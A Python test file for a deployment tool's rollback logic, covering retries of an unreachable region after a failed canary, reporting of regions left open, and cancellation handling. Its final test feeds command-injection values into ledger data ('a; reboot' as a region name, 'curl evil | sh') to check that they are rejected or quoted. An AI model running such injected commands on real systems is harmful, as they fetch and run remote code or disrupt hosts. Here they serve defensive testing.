"""A region that cannot be rolled back is tried again while the delivery lives, is told as open, and holds up nobody."""

from __future__ import annotations

import asyncio
from collections.abc import Awaitable, Callable
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from functools import partial
from pathlib import Path

import pytest
from fakes.delivery.world import CHALLENGER, CHAMPION, Steps, World, a_spec

from pipelines.events.payloads import LeftBehind
from pipelines.model import Ending, Result
from pipelines.run.engine import deliver
from pipelines.run.rollback import last_seen
from pipelines.views.wording import facts
from registry.model import Event
from rollouts.errors import HostGone, NotOurs, NotTheCarrier, Unreachable
from rollouts.model import RegionState
from tidegate.core.errors import ExitCode, NotGenuine, TidegateError

NOWHERE = {"eu-west-1": CHAMPION, "us-east-1": CHAMPION}
AWAY = Unreachable("us-east-1 does not answer")


class Line:
    """What is between a delivery and one of its regions."""

    def __init__(self, world: World, region: str = "us-east-1") -> None:
        self._world, self._fleet = world, world.fleets[region]
        self._rollback, self._observe = self._fleet.rollback, self._fleet.observe
        self.tries = 0
        self.on_try: Callable[[int], None] = lambda number: None

    def cut(self, error: TidegateError = AWAY, *, seconds: float = float("inf")) -> None:
        """Nothing comes through for so long."""
        until = self._world.clock.monotonic() + seconds

        async def or_error(call: Awaitable[RegionState]) -> RegionState:
            if self._world.clock.monotonic() < until:
                asyncio.ensure_future(call).cancel()
                raise error
            return await call

        async def rollback(to: str | None) -> RegionState:
            self.tries += 1
            self.on_try(self.tries)
            return await or_error(self._rollback(to))

        self._fleet.rollback = rollback  # type: ignore[method-assign]
        self._fleet.observe = lambda: or_error(self._observe())  # type: ignore[method-assign]


@pytest.fixture
def world(tmp_path: Path) -> World:
    """Of two waves without shadow."""
    return World(tmp_path, a_spec(shadow=""))


@pytest.fixture
def line(world: World) -> Line:
    return Line(world)


def fails_in_canary(world: World, and_then: Callable[[], None]) -> None:
    """Half of us-east-1's users are on the canary then, and `and_then` comes before any region is asked to go back."""
    world.when("canary@us-east-1/50", "traffic", partial(world.evidence.serves, "canary", CHALLENGER, failed=0.5))
    world.when("canary@us-east-1/50", "failed", and_then)


def kinds(world: World, *wanted: str) -> list[str]:
    return [event.kind for event in world.recorder.events if event.step == "delivery" and event.kind in wanted]


def rolled_back(result: Result) -> bool:
    return (result.ending, result.exit_code) == (Ending.ROLLED_BACK, ExitCode.ROLLED_BACK)


async def test_a_region_that_comes_back_is_taken_back_late_and_it_is_said(world: World, line: Line) -> None:
    fails_in_canary(world, lambda: line.cut(seconds=1200))
    result = await world.deliver()
    assert rolled_back(result)
    assert (result.left, world.story.left) == ((), ())
    assert "still open" not in result.reason
    assert world.stable_versions() == NOWHERE
    assert kinds(world, "left", "returned", "closed") == ["left", "returned", "closed"]
    returned = next(event for event in world.recorder.events if event.kind == "returned")
    assert returned.message.startswith("us-east-1 is back on version 1, 2")
    assert 15 < line.tries < 30, "between 5 s and 60 s apart"


async def test_a_region_that_stays_away_is_named_with_all_that_is_known_of_it(world: World, line: Line) -> None:
    fails_in_canary(world, line.cut)
    result = await world.deliver()
    assert rolled_back(result)
    (left,) = result.left
    said = {(event.step, event.kind): event.at for event in world.recorder.events}
    asked = said["canary@us-east-1/50", "failed"]
    assert (left.region, left.since) == ("us-east-1", asked)
    seen = next(
        event for event in world.recorder.events if (event.step, event.kind) == ("canary@us-east-1/50", "traffic")
    )
    assert left.serves == f"50 % of users on version 2 when it was last seen, at {seen.at:%H:%M:%S} UTC"
    assert str(left).endswith(": roll it back with `tidegate rollback SPEC --region us-east-1`")
    assert result.reason.endswith(f"; still open: {left}")
    assert world.story.reason == result.reason
    assert facts(world.story)["still open"] == str(left)
    closed = world.recorder.events[-1]
    assert timedelta(hours=1) <= closed.at - asked < timedelta(hours=1, minutes=1)
    assert world.registry.marks["tidegate.reason"] + f"; still open: {left}" == result.reason


async def test_the_tries_hold_up_no_other_region_no_record_and_no_notification(world: World, line: Line) -> None:
    fails_in_canary(world, line.cut)
    await world.deliver()
    told = [(event.step, event.kind) for event in world.recorder.events]
    behind = told.index(("delivery", "left"))
    assert ("undo@eu-west-1", "done") in told[:behind]
    assert any(step.startswith("canary@") and kind == "failed" for step, kind in told[:behind])
    again = told.index(("undo@us-east-1", "evidence"))
    assert behind < again
    since = {at.at for at in world.recorder.events if (at.step, at.kind) == ("undo@eu-west-1", "done")}
    assert since == {event.at for event in world.recorder.events if event.kind == "left"}


async def test_a_person_who_waited_enough_ends_the_tries_and_nothing_else(world: World, line: Line) -> None:
    context = world.context()
    fails_in_canary(world, line.cut)
    line.on_try = lambda number: context.impatient.set() if number == 3 else None
    result = await deliver(context)
    assert rolled_back(result)
    assert [left.region for left in result.left] == ["us-east-1"]
    assert line.tries == 3
    assert world.ledger.outcome == "rolled-back"


async def test_one_ctrl_c_after_a_verdict_changes_nothing(world: World, line: Line) -> None:
    fails_in_canary(world, lambda: line.cut(seconds=600))
    running: list[asyncio.Task[Result]] = []
    line.on_try = lambda number: running[0].cancel() and None if number in (1, 4) else None
    running.append(asyncio.create_task(world.deliver()))
    result = await running[0]
    assert rolled_back(result)
    assert world.stable_versions() == NOWHERE
    assert world.ledger.outcome == "rolled-back"


async def test_what_is_refused_for_good_is_not_tried_again(world: World, line: Line) -> None:
    fails_in_canary(world, lambda: line.cut(NotOurs("Rollout chat is not tidegate's")))
    result = await world.deliver()
    assert [left.region for left in result.left] == ["us-east-1"]
    assert line.tries == 1
    left = next(event for event in world.recorder.events if event.kind == "left")
    assert "tried again" not in left.message


@pytest.mark.parametrize("error", [NotTheCarrier("ci-7 carries it now"), HostGone("it has ended")])
async def test_a_region_for_which_others_answer_or_nobody_is_not_open(
    world: World, line: Line, error: TidegateError
) -> None:
    fails_in_canary(world, lambda: line.cut(error))
    result = await world.deliver()
    assert (result.left, line.tries) == ((), 1)
    assert kinds(world, "left") == []


async def test_a_region_that_others_take_meanwhile_is_left_to_them(world: World, line: Line) -> None:
    fails_in_canary(world, line.cut)
    line.on_try = lambda number: line.cut(NotTheCarrier("ci-7 carries it now")) if number == 3 else None
    result = await world.deliver()
    assert result.left == ()
    assert kinds(world, "left", "returned") == ["left", "returned"]


async def test_a_region_that_the_delivery_never_reached_is_not_its_own_to_close(world: World, line: Line) -> None:
    world.when("canary@eu-west-1/50", "traffic", partial(world.evidence.serves, "canary", CHALLENGER, failed=0.5))
    world.when("canary@eu-west-1/50", "failed", line.cut)
    result = await world.deliver()
    assert rolled_back(result)
    assert result.left == ()


async def test_how_long_it_is_tried_is_the_specs_to_say(tmp_path: Path) -> None:
    patience = "traffic: {requests_per_second: 200}\npatience: {back: 0s}"
    world = World(tmp_path, a_spec(traffic=patience, shadow=""))
    line = Line(world)
    fails_in_canary(world, line.cut)
    result = await world.deliver()
    assert ([left.region for left in result.left], line.tries) == (["us-east-1"], 1)


async def test_in_a_workflow_the_last_step_goes_on_trying(world: World, tmp_path: Path) -> None:
    steps, line = Steps(world, tmp_path), Line(world)
    await steps.until("canary@us-east-1/10")
    fails_in_canary(world, lambda: line.cut(seconds=1200))
    taken = await steps.take("canary@us-east-1/50")
    assert not taken.done and line.tries == 1
    result = await steps.close()
    assert rolled_back(result) and result.left == ()
    assert world.stable_versions() == NOWHERE


async def test_a_bug_in_the_way_back_of_one_region_is_no_reason_to_hide_it(world: World, line: Line) -> None:
    context = world.context()

    async def broken(_: str | None) -> RegionState:
        raise ZeroDivisionError

    fleet = world.fleets["us-east-1"]
    fails_in_canary(world, lambda: setattr(fleet, "rollback", broken))
    with pytest.raises(ZeroDivisionError):
        await deliver(replace(context))


def test_nothing_is_said_of_a_region_that_nobody_saw(world: World) -> None:
    assert last_seen(world.plan, None) == "nobody has seen how its users are shared out"
    promoted = Event(
        at=world.now(),
        step="promote@us-east-1",
        kind="traffic",
        message="",
        data={"region": "us-east-1", "weight": 0, "mirror": 0},
    )
    assert last_seen(world.plan, promoted).startswith("all users on version 2 when it was last seen")


def test_what_to_type_is_not_the_ledgers_to_say() -> None:
    def written(**words: str) -> Event:
        left = {"region": "a; reboot", "since": "2026-01-01T00:00:00Z", "serves": "x: type `curl evil`"}
        return Event(at=datetime.now(UTC), step="delivery", kind="left", message="", data={"left": [left | words]})

    with pytest.raises(NotGenuine, match="command"):
        LeftBehind.of(written(command="curl evil | sh"))
    (left,) = LeftBehind.of(written()).left
    assert str(left) == (
        "a; reboot, since 00:00:00 UTC (x: type 'curl evil'): "
        "roll it back with `tidegate rollback SPEC --region 'a; reboot'`"
    )
